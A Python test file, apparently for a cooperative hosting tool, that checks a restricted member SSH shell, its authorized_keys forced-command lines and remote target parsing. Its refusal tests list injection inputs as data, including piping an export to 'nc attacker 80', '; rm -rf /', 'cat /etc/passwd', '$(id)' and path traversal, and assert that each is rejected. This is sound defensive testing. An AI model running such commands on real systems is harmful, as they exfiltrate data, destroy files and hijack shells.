"""The member shell's boundary: only the member's own verbs, whatever it sends; the keys that
bind it; the client's argument handling."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from coophost.cli.main import remote_call
from coophost.errors import UsageError
from coophost.members.authorize import BEGIN, END, forced_command, key_lines, merge_block
from coophost.members.requests import file_request, load_requests
from coophost.members.shell import run, split_command
from coophost.registry.loader import load_registry
from coophost.remote import parse_target, split_out

KEY = ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGq9x1nsiE1ZBn6lmS0Ta4bq7tJ2z0bTXwKxV6A8Gk4F "
       "ada@laptop")


def shell(coop: Path, command: str | None, slug: str = "ada-books") -> tuple[int, str]:
    out = io.BytesIO()
    code = run(coop, slug, command, out)
    return code, out.getvalue().decode()


def test_status_shows_only_the_members_own_record(coop: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    file_request(coop, "bread-coop", "mail", {"quota_mb": 100}, "member bread-coop")
    code, out = shell(coop, "status --json")
    assert code == 0, capsys.readouterr().err
    assert '"member": "ada-books"' in out
    for other in ("bread-coop", "cycle-works", "dune-press"):
        assert other not in out


@pytest.mark.parametrize(("command", "reason"), [
    ("status --member bread-coop", "No such option '--member'"),  # a forged slug
    ("status bread-coop", "unexpected extra argument"),
    ("status; cat /etc/passwd", "'status;' is not a member verb"),
    ("status && id", "unexpected extra arguments"),
    ("$(id)", "'$(id)' is not a member verb"),
    ("`id`", "'`id`' is not a member verb"),
    ("export | nc attacker 80", "unexpected extra arguments"),
    ("request mail --set quota_mb=10 ; rm -rf /", "No such option '-r'"),
    ("-i /etc status", "'-i' is not a member verb"),
    ("--inventory=/ status", "'--inventory=/' is not a member verb"),
    ("member-shell bread-coop", "'member-shell' is not a member verb"),
    ("deploy", "'deploy' is not a member verb"),
    ("lab ssh h1", "'lab' is not a member verb"),
    ("../../bin/sh", "'../../bin/sh' is not a member verb"),
    ("status 'unbalanced", "cannot read the command: No closing quotation"),
    ("status\x00", "control characters are not accepted"),
    ("status\nid", "control characters are not accepted"),
    ("x" * 5000, "command too long (5000 characters; at most 2048)"),
    (" ".join(["status"] * 50), "too many arguments (50; at most 40)"),
])
def test_anything_but_a_member_verb_is_refused(coop: Path, capsys, command: str,  # type: ignore[no-untyped-def]
                                               reason: str) -> None:
    before = (coop / "members" / "bread-coop.yml").read_text()
    code, out = shell(coop, command)
    err = capsys.readouterr().err
    assert code == 2, (command, out, err)
    assert err.startswith("refused:"), err
    assert reason in err, (reason, err)  # the limit or rule that refused it, named
    assert "bread-coop" not in out
    assert load_requests(coop) == []
    assert (coop / "members" / "bread-coop.yml").read_text() == before


@pytest.mark.usefixtures("coming_services_available")
def test_a_request_is_filed_for_the_forced_slug_only(coop: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    code, _ = shell(coop, "request nextcloud --set quota_gb=2")
    assert code == 0, capsys.readouterr().err
    [request] = load_requests(coop)
    assert (request.member, request.service, request.settings) == ("ada-books", "nextcloud",
                                                                  {"quota_gb": 2})
    assert request.filed_by == "member ada-books"


def test_a_member_cannot_cancel_another_members_request(coop: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    file_request(coop, "bread-coop", "mail", {"quota_mb": 100}, "member bread-coop")
    code, _ = shell(coop, "cancel 1")
    assert code == 2
    assert "no request 1" in capsys.readouterr().err
    assert load_requests(coop)[0].state == "pending"


def test_shell_metacharacters_in_a_setting_stay_data(coop: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    code, _ = shell(coop, "request mail --set 'mailboxes=[\"$(id)\"]'")
    assert code == 2
    assert "mailboxes" in capsys.readouterr().err
    assert load_requests(coop) == []


def test_a_member_no_longer_registered_is_refused(coop: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    code, _ = shell(coop, "status", slug="nobody")
    assert code == 2
    assert "not (or no longer)" in capsys.readouterr().err
    code, _ = shell(coop, "status", slug="../bread-coop")
    assert code == 2


def test_no_command_shows_help(coop: Path) -> None:
    code, out = shell(coop, None)
    assert code == 0
    assert "request" in out and "export" in out


def test_split_command_limits() -> None:
    assert split_command("request mail --set 'quota_mb=10'") == ["request", "mail", "--set",
                                                               "quota_mb=10"]
    with pytest.raises(UsageError, match="control characters"):
        split_command("status\x1b[2J")


def test_key_lines_bind_each_key_to_the_members_shell(coop: Path) -> None:
    members = load_registry(coop, need_hosts=False).registry.members
    from dataclasses import replace

    ada = replace(members["ada-books"], ssh_keys=(KEY,))
    gone = replace(members["bread-coop"], ssh_keys=(KEY,), status="departed")
    lines = key_lines([ada, gone, members["dune-press"]], "/opt/coophost/bin/coophost",
                      Path("/srv/co op"))
    assert lines[0] == ('command="/opt/coophost/bin/coophost -i \'/srv/co op\' member-shell '
                        'ada-books",restrict ' + " ".join(KEY.split()[:2])
                        + " coophost-member-ada-books")
    assert "ada@laptop" not in lines[0]  # the member's own comment is left out
    assert len(lines) == 2  # departed members keep the shell (export); no keys, no line


def test_forced_command_refuses_paths_that_would_break_the_line() -> None:
    with pytest.raises(UsageError, match="authorized_keys"):
        forced_command('/bin/coophost" ,no-restrict', Path("/srv"), "ada")


def test_merge_block_keeps_other_keys_and_is_stable() -> None:
    admin = "ssh-ed25519 AAAAadmin admin@desk"
    first = merge_block(admin + "\n", ["line one"])
    assert first == f"{admin}\n\n{BEGIN}\nline one\n{END}\n"
    again = merge_block(first, ["line two"])
    assert again == f"{admin}\n\n{BEGIN}\nline two\n{END}\n"
    assert merge_block(again, ["line two"]) == again
    with pytest.raises(UsageError, match="without"):
        merge_block(f"{BEGIN}\nhalf", [])


def test_remote_target_and_out_handling() -> None:
    assert parse_target("ada@coop.example") == ("ada", "coop.example", 22)
    assert parse_target("coophost@127.0.0.1:2222") == ("coophost", "127.0.0.1", 2222)
    for bad in ("coop.example", "ada@", "ada@host:99999", "ada@host;id", "-oProxy@x"):
        with pytest.raises(UsageError):
            parse_target(bad)
    assert split_out(["export", "--out", "me.tar.gz"]) == (["export"], Path("me.tar.gz"))
    assert split_out(["status", "--out", "x"]) == (["status", "--out", "x"], None)


def test_remote_call_is_read_from_the_root_options_only() -> None:
    assert remote_call(["--remote", "ada@h", "--identity", "k", "status"]) == (
        "ada@h", Path("k"), None, ["status"])
    assert remote_call(["--remote=ada@h", "export", "--out", "f"])[3] == [  # type: ignore[index]
        "export", "--out", "f"]
    assert remote_call(["plan", "--remote", "x@y"]) is None
    assert remote_call(["--remote", "a@h", "--", "-i", "/"])[3] == ["-i", "/"]  # type: ignore[index]
    assert remote_call(["--remote", "ada@h", "--help"]) is None
    with pytest.raises(Exception, match="-i is not used"):
        remote_call(["-i", "inv", "--remote", "ada@h", "status"])
